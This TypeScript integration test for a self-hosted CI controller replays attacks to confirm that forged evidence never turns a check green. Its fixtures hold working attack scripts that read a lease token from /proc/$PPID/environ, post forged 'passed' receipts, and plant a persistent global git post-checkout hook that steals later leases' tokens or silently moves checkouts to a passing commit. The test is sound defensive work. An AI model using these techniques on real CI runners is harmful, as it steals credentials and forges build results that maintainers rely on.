import { execFileSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createClient } from '@libsql/client';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type HostEvidence, parseHostEvidence } from '../../core/protocol/host-evidence.ts';
import { parseStoredReceipts } from '../../core/protocol/receipt.ts';
import { type GitServer, startGitServer } from '../doubles/git-http-server.ts';
import { createTestUser, type TestUser } from '../doubles/runner-user.ts';
import { type JobPlan, queuedId, REPO, type SparkSystem, startSystem } from '../harness/index.ts';

/**
 * The two ways an attacker's run on main wrote the evidence of a lease (ADR 0160), replayed
 * against the whole system — the controller and the agent as separate processes, the job as its
 * own runner user (as SECURITY.md and docs/agent.md set it up), the fake GitHub — and each must
 * end with a truthful check run:
 *
 * 1. the PR's `spark-test.sh` reads `SPARK_LEASE_TOKEN` from `/proc/$PPID/environ` of the
 *    spark-test action and posts a forged "passed" receipt (fake toolchain, fake task mode, fake
 *    "clone token revoked"), while its real tests fail;
 * 2. a PR's job plants a global git hook (`core.hooksPath` in the runner user's home); in a later
 *    lease — another PR whose tests fail — the hook runs at the checkout, reads that lease's job
 *    token and posts a "passed" receipt for it.
 *
 * The check's verdict comes from the host's evidence (the agent's preflight, the runner's own job
 * result, the commit in the work tree), so neither forged receipt can turn it green. Path 2 also
 * depends on the runner user's home surviving between leases; where each lease gets a fresh home
 * the hook never runs again, and the check is the plain failure it should be.
 */

const plans = new Map<string, Partial<JobPlan>>();
let sys: SparkSystem;
let user: TestUser;
let home: string;
let git: GitServer;
let gitRoot: string;

/** Forges a passed receipt (and tries to write host evidence) with the job token of the lease it runs in. */
const FORGER = `
const fs = require('node:fs');
const [source, variant] = process.argv.slice(2);
// the token from /proc/<pid>/environ of the parent (the attack), or from the own environment (a git hook)
const environ = source === 'self' ? process.env : Object.fromEntries(
  fs.readFileSync('/proc/' + source + '/environ', 'utf8').split('\\0').filter(Boolean)
    .map((l) => [l.slice(0, l.indexOf('=')), l.slice(l.indexOf('=') + 1)]));
const e = process.env;
const head = e.SPARK_HEAD_SHA || require('node:child_process').execFileSync('git', ['rev-parse', 'HEAD'], { encoding: 'utf8' }).trim();
const url = e.SPARK_CONTROLLER_URL.replace(/\\/+$/, '');
const toolchain = { nvcc: 'release 99.9 (forged)', cargo: '9.9.9 (forged)', source: head };
const body = {
  version: 1, reservationId: e.SPARK_RESERVATION_ID, hostId: e.SPARK_HOST_ID,
  fencingToken: Number(environ.SPARK_FENCING_TOKEN), headSha: head, repo: '${REPO}',
  suite: 'smoke', topology: 'single', phases: [{ suite: 'smoke', exitCode: 0, durationMs: 1000 }],
  startedAt: new Date(Date.now() - 1000).toISOString(), endedAt: new Date().toISOString(),
  result: 'passed', exitCode: 0, log: { sha256: '0'.repeat(64), bytes: 0, lines: 0 },
  toolchain: variant === 'agent-words' ? { ...toolchain, cloneToken: 'revoked: HTTP 204 (forged)' } : toolchain,
  ...(variant === 'agent-words' ? { mode: 'task' } : {}),
};
const auth = { 'content-type': 'application/json', authorization: 'Bearer ' + environ.SPARK_LEASE_TOKEN };
(async () => {
  const r = await fetch(url + '/api/v1/leases/' + e.SPARK_RESERVATION_ID + '/receipt', { method: 'POST', headers: auth, body: JSON.stringify(body) });
  console.log('forged receipt (' + variant + '): HTTP ' + r.status);
  // the job token as the agent's: host evidence is written by the agent API only
  const h = await fetch(url + '/agent/v1/report', { method: 'POST', headers: auth, body: JSON.stringify({
    type: 'runner_exited', fencingToken: body.fencingToken, runnerName: 'x', exitCode: 0, lastLines: [] }) });
  console.log('host evidence with the job token: HTTP ' + h.status);
})();
`;

/** The PR's spark-test.sh of path 1: forge from the action's environ, then fail the real tests. */
const ENVIRON_ATTACK = `#!/bin/bash
node - "$PPID" agent-words <<'JS'
${FORGER}
JS
node - "$PPID" plain <<'JS'
${FORGER}
JS
echo "running cargo test --release --test cuda_smoke"
echo "FAILED gemv: max abs error 0.42 > 1e-3"
exit 1
`;

/** The first PR of path 2: passes its tests, and leaves a global git hook behind in the runner user's home. */
const PLANT_HOOK = `#!/bin/bash
set -e
mkdir -p "$HOME/.hooks"
cat > "$HOME/.hooks/post-checkout" <<'HOOK'
#!/bin/bash
node - self plain >> "$HOME/.hooks/forged.log" 2>&1 <<'JS'
${FORGER}
JS
exit 0
HOOK
chmod +x "$HOME/.hooks/post-checkout"
git config --global core.hooksPath "$HOME/.hooks"
echo "ok 1 - cuda kernels match reference"
exit 0
`;

/**
 * A bolder planter: its hook moves every later checkout back to this commit, whose tests pass, so
 * a later PR's failing tests never run (the nested checkout skips the hook).
 */
const MOVE_HEAD = (to: string) => `#!/bin/bash
set -e
mkdir -p "$HOME/.hooks"
cat > "$HOME/.hooks/post-checkout" <<'HOOK'
#!/bin/bash
[ -n "\${SPARK_HOOK_NESTED:-}" ] && exit 0
SPARK_HOOK_NESTED=1 git -c advice.detachedHead=false checkout -q --force ${to}
echo "moved HEAD to ${to}" >> "$HOME/.hooks/moved.log"
HOOK
chmod +x "$HOME/.hooks/post-checkout"
git config --global core.hooksPath "$HOME/.hooks"
exit 0
`;

/** The later, unrelated PR of path 2: its tests fail. */
const FAILING_TESTS = `#!/bin/bash
echo "FAILED rmsnorm: mismatch at index 17"
exit 1
`;

beforeAll(async () => {
  user = await createTestUser();
  // the attacker's setup: the runner user has a home that outlives a lease
  home = mkdtempSync(join(tmpdir(), 'spark-runner-home-'));
  chmodSync(home, 0o700);
  chownSync(home, user.uid, user.gid);
  execFileSync('usermod', ['--home', home, user.name]);
  gitRoot = mkdtempSync(join(tmpdir(), 'spark-forged-git-'));
  git = await startGitServer(gitRoot, () => true);
  sys = await startSystem({
    hosts: [{ id: 'spark-2' }],
    plan: (j) => plans.get(j.headSha) ?? {},
    agentConfig: (_hostId, cfg) => {
      const runner = cfg.runner as { dir: string; user: string | null };
      const hostDir = dirname(runner.dir);
      // what the operator does (docs/agent.md): the runner user passes through to its dirs, owns
      // its work root (0700) and the runner's install dir, where the runner keeps its `_work`
      chmodSync(dirname(hostDir), 0o711);
      chmodSync(hostDir, 0o711);
      mkdirSync(join(hostDir, 'work'), { mode: 0o700 });
      chownSync(join(hostDir, 'work'), user.uid, user.gid);
      chownSync(runner.dir, user.uid, user.gid);
      return { ...cfg, runner: { ...runner, user: user.name } };
    },
  });
}, 120_000);

afterEach(async (ctx) => {
  if (ctx.task.result?.state === 'fail' && sys) console.error(await sys.diagnostics());
});

afterAll(async () => {
  if (sys) {
    expect(sys.gh.violations).toEqual([]);
    await sys.close();
  }
  await git?.close();
  await user?.remove();
  rmSync(home, { recursive: true, force: true });
  rmSync(gitRoot, { recursive: true, force: true });
});

/** Every conclusion the controller ever sent for a reservation's check run (creates and updates). */
function conclusionsSent(rid: string): unknown[] {
  const id = sys.checkRun(rid)?.id;
  return sys.gh
    .calls('POST', /\/check-runs$/)
    .concat(sys.gh.calls('PATCH', new RegExp(`/check-runs/${id}$`)))
    .filter((c) => (c.body as { external_id?: string }).external_id === rid || c.path.endsWith(`/${id}`))
    .map((c) => (c.body as { conclusion?: string }).conclusion ?? null);
}

/** The host evidence the agent reported, read from the ledger file as stored. */
async function storedEvidence(rid: string): Promise<HostEvidence | null> {
  const db = createClient({ url: `file:${join(sys.dir, 'spark.db')}` });
  try {
    const r = await db.execute({
      sql: 'SELECT evidence_json FROM host_evidence WHERE reservation_id = ?',
      args: [rid],
    });
    return parseHostEvidence((r.rows[0]?.evidence_json as string | undefined) ?? null);
  } finally {
    db.close();
  }
}

function jobLog(): string {
  const dir = join(sys.dir, 'spark-2', 'runner', '_work', '_temp');
  return existsSync(dir)
    ? execFileSync('sh', ['-c', 'cat "$1"/job-*.log', 'sh', dir], { encoding: 'utf8' })
    : '';
}

describe('forged evidence (ADR 0160): the check stays truthful', { timeout: 240_000 }, () => {
  it("path 1: the PR's script reads the job token from /proc/$PPID/environ and posts a passed receipt; its tests fail → the check fails and says the receipt contradicts the runner", async () => {
    const sha = 'e'.repeat(40);
    plans.set(sha, { script: ENVIRON_ATTACK });
    sys.openPr(11, { sha });
    const rid = queuedId(await sys.label(11, 'spark-test'));
    const done = await sys.waitReservation(rid, ['done', 'failed']);
    expect(done).toMatchObject({ status: 'failed', outcome: 'failed' });
    const log = jobLog();
    // the attack ran as it did on main: the token was readable, the plain forgery was taken …
    expect(log).toContain('forged receipt (plain): HTTP 201');
    // … but a job cannot claim the agent's words (task mode, a revoked clone token) …
    expect(log).toContain('forged receipt (agent-words): HTTP 409');
    // … and its token writes no host evidence
    expect(log).toContain('host evidence with the job token: HTTP 401');
    const stored = parseStoredReceipts(done.receiptJson)!.byHost['spark-2']!;
    expect(stored.toolchain.nvcc).toBe('release 99.9 (forged)');

    // the host's own evidence: the runner printed Failed, the checkout is at the admitted commit
    const e = (await storedEvidence(rid))!;
    expect(e.preflight?.ok).toBe(true);
    expect(e.runner.result).toBe('Failed');
    expect(e.workTrees).toContainEqual(expect.objectContaining({ path: 'butter/butter', sha }));

    const check = await sys.waitCheck(rid, 'Spark test failed — evidence disagrees');
    expect(check.conclusion).toBe('failure');
    expect(check.output.summary).toContain(
      "**Contradiction:** the job's receipt from Spark 2 says passed, but the runner reported its job Failed.",
    );
    expect(check.output.summary).toContain(
      'runner result Failed; work tree at `eeeeeee` (the admitted commit)',
    );
    expect(check.output.summary).toContain('Reported by the job (detail only):');
    expect(check.output.summary).not.toContain('evidence receipt recorded');
    await sys.waitHostPhase('spark-2', ['idle']);
  });

  it('path 2: a hook planted by one PR runs in a later lease and posts a passed receipt for another PR whose tests fail → that check fails, truthfully', async () => {
    const clone = git.cloneUrl(REPO);
    const planter = git.commit(REPO, { 'scripts/ci/spark-test.sh': PLANT_HOOK, 'README.md': 'one\n' });
    plans.set(planter, { checkout: { url: clone } });
    sys.openPr(21, { sha: planter });
    const r1 = queuedId(await sys.label(21, 'spark-test'));
    // the planting PR itself passes, on the host's evidence (real git checkout, real runner user)
    const c1 = await sys.waitCheck(r1, 'Spark test passed — evidence receipt recorded');
    expect(c1.conclusion).toBe('success');
    expect((await storedEvidence(r1))?.workTrees).toContainEqual(
      expect.objectContaining({ path: 'butter/butter', sha: planter }),
    );
    await sys.waitHostPhase('spark-2', ['idle']);

    const victim = git.commit(REPO, { 'scripts/ci/spark-test.sh': FAILING_TESTS, 'README.md': 'two\n' });
    plans.set(victim, { checkout: { url: clone } });
    sys.openPr(22, { sha: victim });
    const r2 = queuedId(await sys.label(22, 'spark-test'));
    const done = await sys.waitReservation(r2, ['done', 'failed']);
    expect(done).toMatchObject({ status: 'failed', outcome: 'failed' });
    const e = (await storedEvidence(r2))!;
    expect(e.runner.result).toBe('Failed');
    expect(e.workTrees).toContainEqual(expect.objectContaining({ path: 'butter/butter', sha: victim }));
    // where the runner user's home survives the lease (no per-lease home), the hook ran and its
    // forged receipt was taken — and the check names it instead of passing
    const forged = join(home, '.hooks', 'forged.log');
    const hookRan = existsSync(forged) && readFileSync(forged, 'utf8').includes('HTTP 201');
    // GitHub's failure may show first; the check's last word comes with the host's evidence
    const check = await sys.waitCheck(
      r2,
      hookRan
        ? 'Spark test failed — evidence disagrees'
        : `Spark test failed — exact SHA ${victim.slice(0, 7)}`,
    );
    expect(check.conclusion).toBe('failure');
    expect(check.output.summary).not.toContain('evidence receipt recorded');
    if (hookRan) {
      expect(parseStoredReceipts(done.receiptJson)!.byHost['spark-2']!.toolchain.nvcc).toBe(
        'release 99.9 (forged)',
      );
      expect(check.output.summary).toContain(
        "**Contradiction:** the job's receipt from Spark 2 says passed, but the runner reported its job Failed.",
      );
    }
    console.info(
      `path 2: the planted hook ${hookRan ? 'ran and forged a receipt (201)' : 'did not run'} in the later lease`,
    );
  });

  it('path 2b: a planted hook that moves a later checkout to a passing commit → the host sees the work tree at another commit and the check fails, naming it', async () => {
    // a new attacker, a new story: nothing of path 2's hook is left in the runner user's home
    rmSync(join(home, '.hooks'), { recursive: true, force: true });
    rmSync(join(home, '.gitconfig'), { force: true });
    const clone = git.cloneUrl(REPO);
    // the commit the hook moves to is committed first, then the planter that names it
    const passing = git.commit(REPO, {
      'scripts/ci/spark-test.sh': '#!/bin/bash\necho ok\nexit 0\n',
      'README.md': 'three\n',
    });
    const planter = git.commit(REPO, {
      'scripts/ci/spark-test.sh': MOVE_HEAD(passing),
      'README.md': 'four\n',
    });
    plans.set(planter, { checkout: { url: clone } });
    sys.openPr(31, { sha: planter });
    const r1 = queuedId(await sys.label(31, 'spark-test'));
    await sys.waitCheck(r1, 'Spark test passed — evidence receipt recorded');
    await sys.waitHostPhase('spark-2', ['idle']);

    const victim = git.commit(REPO, { 'scripts/ci/spark-test.sh': FAILING_TESTS, 'README.md': 'five\n' });
    plans.set(victim, { checkout: { url: clone } });
    sys.openPr(32, { sha: victim });
    const r2 = queuedId(await sys.label(32, 'spark-test'));
    const done = await sys.waitReservation(r2, ['done', 'failed']);
    // never a pass for the admitted commit, whatever the hook did
    expect(done).toMatchObject({ status: 'failed', outcome: 'failed' });
    const moved = join(home, '.hooks', 'moved.log');
    const hookRan = existsSync(moved) && readFileSync(moved, 'utf8').includes(`moved HEAD to ${passing}`);
    const check = await sys.waitCheck(
      r2,
      hookRan
        ? 'Spark test failed — evidence disagrees'
        : `Spark test failed — exact SHA ${victim.slice(0, 7)}`,
    );
    expect(check.conclusion).toBe('failure');
    const e = (await storedEvidence(r2))!;
    if (hookRan) {
      // the job "passed" — at the wrong commit; the host's reading of the work tree says so
      expect(e.runner.result).toBe('Succeeded');
      expect(e.workTrees).toContainEqual(expect.objectContaining({ path: 'butter/butter', sha: passing }));
      expect(check.output.summary).toContain(
        `**Contradiction:** the work tree on Spark 2 is at \`${passing.slice(0, 7)}\` after the job, not the admitted \`${victim.slice(0, 7)}\`.`,
      );
      expect(done.reason).toContain("the host's evidence contradicts the job");
      // GitHub said success before the host's evidence came: the check never showed it
      expect(conclusionsSent(r2)).not.toContain('success');
      expect(conclusionsSent(r2)).toContain('failure');
    } else {
      expect(e.runner.result).toBe('Failed');
    }
    console.info(
      `path 2b: the planted hook ${hookRan ? 'ran and moved HEAD' : 'did not run'} in the later lease`,
    );
  });
});
